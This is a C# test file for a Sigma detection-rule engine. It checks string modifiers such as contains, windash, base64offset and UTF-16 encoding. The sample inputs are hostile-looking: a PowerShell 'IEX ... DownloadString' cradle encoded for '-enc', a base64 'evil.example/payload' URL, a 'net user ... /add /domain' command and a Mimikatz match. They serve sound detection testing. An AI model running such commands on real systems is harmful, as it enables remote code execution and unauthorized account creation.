using Parry.Sigma.Loading;
using Parry.Sigma.Rules;
using Parry.Sigma.Values;
using static Parry.Sigma.Tests.SigmaTestKit;

namespace Parry.Sigma.Tests.Modifiers;

public class StringModifierTests
{
    private static IReadOnlyList<SigmaValue> ValuesOf(string detection) =>
        ((DetectionItem)((DetectionGroup)Rule(detection).Detection.SearchIdentifiers[0].Value).Items[0]).Values;

    [Theory]
    [InlineData("contains", "xx-needle-xx", true)]
    [InlineData("contains", "NEEDLE", true)]
    [InlineData("contains", "needl", false)]
    [InlineData("startswith", "needle and more", true)]
    [InlineData("startswith", "a needle", false)]
    [InlineData("endswith", "a Needle", true)]
    [InlineData("endswith", "needle!", false)]
    public void Contains_startswith_endswith(string modifier, string value, bool expected)
    {
        Matches($"""
            selection:
                Field|{modifier}: 'needle'
            condition: selection
            """, $$"""{"Field": "{{value}}"}""").ShouldBe(expected);
    }

    [Fact]
    public void Contains_keeps_wildcards_inside_the_value()
    {
        Matches("""
            selection:
                CommandLine|contains: 'net * /add'
            condition: selection
            """, """{"CommandLine": "cmd /c net user bob pw /add /domain"}""").ShouldBeTrue();
    }

    [Theory]
    [InlineData("net user /add /domain", true)]
    [InlineData("/domain net user /add", true)] // order does not matter
    [InlineData("net user /add", false)]
    public void Contains_all_needs_every_value(string value, bool expected)
    {
        Matches("""
            selection:
                CommandLine|contains|all:
                    - 'net user'
                    - '/add'
                    - '/domain'
            condition: selection
            """, $$"""{"CommandLine": "{{value}}"}""").ShouldBe(expected);
    }

    [Fact]
    public void All_across_list_items_of_a_field()
    {
        Matches("""
            selection:
                Tags|all:
                    - a
                    - b
            condition: selection
            """, """{"Tags": ["b", "c", "a"]}""").ShouldBeTrue();
    }

    [Theory]
    [InlineData("Secret", true)]
    [InlineData("secret", false)]
    [InlineData("SECRET", false)]
    public void Cased_compares_case_sensitively(string value, bool expected)
    {
        Matches("""
            selection:
                Field|cased: 'Secret'
            condition: selection
            """, $$"""{"Field": "{{value}}"}""").ShouldBe(expected);
    }

    [Fact]
    public void Cased_combines_with_contains()
    {
        var detection = """
            selection:
                Field|contains|cased: 'Mimi'
            condition: selection
            """;
        Matches(detection, """{"Field": "x Mimikatz y"}""").ShouldBeTrue();
        Matches(detection, """{"Field": "x mimikatz y"}""").ShouldBeFalse();
    }

    [Fact]
    public void Windash_makes_every_dash_permutation()
    {
        var values = ValuesOf("""
            selection:
                CommandLine|windash: '-foo'
            condition: selection
            """);
        var expansion = values.ShouldHaveSingleItem().ShouldBeOfType<SigmaExpansion>();
        expansion.Alternatives.Select(v => ((SigmaString)v).PlainText)
            .ShouldBe(["-foo", "/foo", "\u2013foo", "\u2014foo", "\u2015foo"]);
    }

    [Fact]
    public void Windash_leaves_dashes_inside_words()
    {
        var values = ValuesOf("""
            selection:
                CommandLine|contains|windash: ' -param-name '
            condition: selection
            """);
        values.ShouldHaveSingleItem().ShouldBeOfType<SigmaExpansion>().Alternatives.Count.ShouldBe(5);
    }

    [Theory]
    [InlineData("powershell -enc AAA", true)]
    [InlineData("powershell /enc AAA", true)]
    [InlineData("powershell \u2013enc AAA", true)]
    [InlineData("powershell \u2015enc AAA", true)]
    [InlineData("powershell enc AAA", false)]
    public void Windash_matches_every_form(string value, bool expected)
    {
        Matches("""
            selection:
                CommandLine|contains|windash: ' -enc '
            condition: selection
            """, $$"""{"CommandLine": "{{value}}"}""").ShouldBe(expected);
    }

    [Fact]
    public void Windash_under_all_keeps_each_value_an_alternative()
    {
        var detection = """
            selection:
                CommandLine|contains|all|windash:
                    - ' -a '
                    - ' -b '
            condition: selection
            """;
        Matches(detection, """{"CommandLine": "x /a /b "}""").ShouldBeTrue();
        Matches(detection, """{"CommandLine": "x -a /a "}""").ShouldBeFalse();
    }

    [Fact]
    public void Base64_encodes_the_value()
    {
        ValuesOf("""
            selection:
                Field|base64: 'foobar'
            condition: selection
            """).ShouldHaveSingleItem().ShouldBeOfType<SigmaString>().PlainText.ShouldBe("Zm9vYmFy");
    }

    [Fact]
    public void Base64offset_yields_the_three_shifted_encodings()
    {
        var expansion = ValuesOf("""
            selection:
                Field|base64offset|contains: 'foobar'
            condition: selection
            """).ShouldHaveSingleItem().ShouldBeOfType<SigmaExpansion>();
        expansion.Alternatives.Select(v => v.ToString()).ShouldBe(["*Zm9vYmFy*", "*Zvb2Jhc*", "*mb29iYX*"]);
    }

    [Theory]
    [InlineData("")]
    [InlineData("x")]
    [InlineData("xy")]
    [InlineData("some prefix: ")]
    public void Base64offset_contains_finds_the_value_at_any_offset(string prefix)
    {
        var encoded = Convert.ToBase64String(System.Text.Encoding.UTF8.GetBytes(prefix + "http://evil.example/payload" + " trailing"));
        Matches("""
            selection:
                Field|base64offset|contains: 'http://'
            condition: selection
            """, $$"""{"Field": "{{encoded}}"}""").ShouldBeTrue();
    }

    [Theory]
    [InlineData("utf16le", "c\u0000m\u0000d\u0000")]
    [InlineData("wide", "c\u0000m\u0000d\u0000")]
    [InlineData("utf16be", "\u0000c\u0000m\u0000d")]
    [InlineData("utf16", "\u00ff\u00fec\u0000m\u0000d\u0000")]
    public void Utf16_encodings(string modifier, string bytes)
    {
        ValuesOf($"""
            selection:
                Field|{modifier}: 'cmd'
            condition: selection
            """).ShouldHaveSingleItem().ShouldBeOfType<SigmaString>().PlainText.ShouldBe(bytes);
    }

    [Theory]
    [InlineData("")]
    [InlineData("a")]
    [InlineData("ab")]
    public void Wide_base64offset_finds_powershell_encoded_commands(string prefix)
    {
        // PowerShell -EncodedCommand is Base64 of UTF-16LE.
        var encoded = Convert.ToBase64String(System.Text.Encoding.Unicode.GetBytes(prefix + "IEX (New-Object Net.WebClient).DownloadString('http://x')"));
        Matches("""
            selection:
                CommandLine|wide|base64offset|contains: 'DownloadString'
            condition: selection
            """, $$"""{"CommandLine": "powershell -enc {{encoded}}"}""").ShouldBeTrue();
    }

    [Fact]
    public void Utf16_base64_uses_the_utf16_byte_order_mark()
    {
        ValuesOf("""
            selection:
                Field|utf16|base64: 'cmd'
            condition: selection
            """).ShouldHaveSingleItem().ShouldBeOfType<SigmaString>().PlainText
            .ShouldBe(Convert.ToBase64String([0xFF, 0xFE, .. System.Text.Encoding.Unicode.GetBytes("cmd")]));
    }

    [Theory]
    [InlineData("C:\\Users\\bob\\x.exe", true)]
    [InlineData("C:\\Users\\bob\\x.dll", false)]
    public void Expand_replaces_placeholders_with_table_values(string value, bool expected)
    {
        var options = new SigmaLoadOptions
        {
            // Placeholder values are Sigma strings: '\\*' is a backslash then a wildcard ('\*' would be a plain star).
            Placeholders = PlaceholderTable.FromYaml("Users: ['C:\\Users\\\\*']\nExt: [.exe, .scr]", "table.yml"),
        };
        var rule = Rule("""
            selection:
                Image|expand: '%Users%\\*%Ext%'
            condition: selection
            """, options);
        Matches(rule, $$"""{"Image": "{{value.Replace("\\", "\\\\")}}"}""").ShouldBe(expected);
    }

    [Fact]
    public void Expand_with_contains_and_escaped_percent()
    {
        var options = new SigmaLoadOptions { Placeholders = PlaceholderTable.FromYaml("domain: [CORP, LAB]", "t.yml") };
        var rule = Rule("""
            selection:
                CommandLine|contains|expand: '\%USERDOMAIN\% = %domain%'
            condition: selection
            """, options);
        Matches(rule, """{"CommandLine": "echo %USERDOMAIN% = lab"}""").ShouldBeTrue();
        Matches(rule, """{"CommandLine": "echo %USERDOMAIN% = home"}""").ShouldBeFalse();
    }

    [Fact]
    public void Percent_signs_without_expand_are_plain()
    {
        Matches("""
            selection:
                CommandLine|contains: '%COMSPEC%'
            condition: selection
            """, """{"CommandLine": "cmd /c %comspec% /c x"}""").ShouldBeTrue();
    }
}
